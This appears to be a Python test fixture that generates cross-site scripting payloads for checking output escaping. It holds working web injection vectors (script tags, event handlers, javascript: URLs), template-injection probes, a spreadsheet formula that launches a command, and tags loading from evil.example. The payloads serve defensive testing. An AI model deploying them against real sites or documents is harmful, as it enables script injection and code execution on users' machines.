"""Over a hundred texts that become a script in whatever prints them carelessly."""

from itertools import product
from typing import Final

RUN: Final = "window.ran=1"
"""What each of them tries to do."""

_WAYS_OUT: Final = (
    "", '">', "'>", "</title>", "</textarea>", "</bdi></p>", "--></noscript>", "</script>",
)  # fmt: skip
"""Of an attribute, of an element that holds raw text, of a comment."""
_VECTORS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
)
_OTHERS: Final = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"\" onmouseover={RUN} autofocus onfocus={RUN} x=\"' onclick={RUN} '",
    "{{ cycler.__init__.__globals__ }}{% raw %}{{ page }}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"'-{RUN}-'",
    f"${{{RUN}}}`{RUN}`",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
)
"""Addresses, attributes, templates, what is decoded twice, formulas of a table."""

XSS: Final = tuple(
    [f"{out}{vector}" for out, vector in product(_WAYS_OUT, _VECTORS)] + list(_OTHERS)
)
